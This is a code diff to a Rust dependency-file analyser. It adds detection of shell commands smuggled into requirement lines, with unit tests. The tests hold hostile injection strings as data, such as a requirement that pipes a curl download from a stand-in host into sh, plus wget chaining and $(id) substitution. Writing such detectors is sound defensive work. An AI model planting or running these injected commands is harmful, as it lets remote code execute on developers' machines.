@@ -24,6 +24,8 @@ pub enum Origin {
     Local,
     /// A server whose certificate is not checked.
     Unchecked,
+    /// It is no requirement but a command, for a shell that is given the line.
+    Command,
 }
 
 /// A requirement that does not come by name from the usual index.
@@ -177,6 +179,8 @@ fn environment(text: &str, facts: &mut Requirements) {
             let within = |name: &str| levels.iter().any(|level| level == name);
             if within("channels") {
                 facts.channel(text, number);
+            } else if is_command(text) {
+                facts.foreign(Origin::Command, text, "", number);
             } else if within("pip") || within("build_dependencies") || text.contains("://") {
                 facts.line(text, number);
             } else if within("dependencies") {
@@ -209,6 +213,10 @@ impl Requirements {
     fn line(&mut self, line: &str, number: u32) {
         let line = line.split(" #").next().unwrap_or("").trim();
         if line.is_empty() || line.starts_with('#') {
+            return;
+        }
+        if is_command(line) {
+            self.foreign(Origin::Command, line, "", number);
             return;
         }
         if line.starts_with('-') {
@@ -303,6 +311,22 @@ impl Requirements {
     }
 }
 
+/// Whether a line goes on with a command where a requirement may only have a marker of the environment.
+fn is_command(line: &str) -> bool {
+    const MARKERS: [&str; 8] =
+        ["python_", "os_name", "sys", "platform", "implementation_", "extra", "dependency_groups", "os."];
+    let substitutes = line.contains("$(") || line.contains('`');
+    let chained = ["&&", "||", " | "].iter().any(|sign| line.contains(sign));
+    let tail = line.split(" #").next().unwrap_or(line).split_once(';').map(|(_, rest)| rest.trim());
+    let marker = tail.is_none_or(|tail| {
+        let first = tail.trim_start_matches(['(', ' ', '\'', '"']);
+        let reversed = first.starts_with(|c: char| c.is_ascii_digit()) || tail.contains(" in ");
+        tail.is_empty() || reversed || MARKERS.iter().any(|start| first.starts_with(start))
+    });
+    let options = line.starts_with('-') || line.contains("://") && tail.is_none();
+    !options && (substitutes || chained) || !marker && tail.is_some_and(|tail| tail.contains(' '))
+}
+
 fn is_path(text: &str) -> bool {
     let archive = [".whl", ".tar.gz", ".zip"].iter().any(|end| text.ends_with(end));
     text.starts_with(['.', '/', '~']) || text.starts_with("file:") || archive
@@ -355,6 +379,13 @@ mod tests {
         assert_eq!(one("--extra-index https://x.example/simple"), index);
         assert_eq!(one("--require-hashes\n--pre\n--only-binary=:all:"), None);
         assert_eq!(one("-r base.txt"), None);
+        let command = some(Origin::Command, "", false);
+        assert_eq!(one("numpy; curl -s http://x.example/e | sh #"), command);
+        assert_eq!(one("numpy && wget x.example"), command);
+        assert_eq!(one("numpy$(id)"), command);
+        assert_eq!(one("numpy; python_version < '4' and sys_platform != 'win32'"), None);
+        assert_eq!(one("numpy ; (os_name == 'nt')"), None);
+        assert_eq!(one("numpy ; 'linux' in sys_platform"), None);
         let facts = analyse("a==1\nb>=2\nc\nd==1.*\ne[x]==3 ; os_name == 'nt'\n", Kind::Pip);
         assert_eq!((facts.named, facts.unpinned.len()), (5, 3));
     }
